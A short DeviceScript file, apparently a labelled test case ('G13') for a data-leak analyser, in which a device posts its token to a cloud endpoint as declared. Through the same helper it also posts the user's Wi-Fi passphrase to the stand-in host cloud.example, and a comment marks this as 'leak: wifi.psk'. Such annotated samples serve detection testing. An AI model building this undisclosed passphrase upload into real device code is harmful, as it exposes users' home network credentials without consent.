// G13: hands its token to its cloud, as declared, and by the same helper the passphrase.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

async function post(path: string, body: string) {
  const response = await fetch(`https://cloud.example/${path}`, { method: "POST", body }); // leak: wifi.psk
  await response.close();
}

paired(async (_ssid, psk) => {
  await post("token", await readSetting("token", ""));
  await post("home", psk);
});
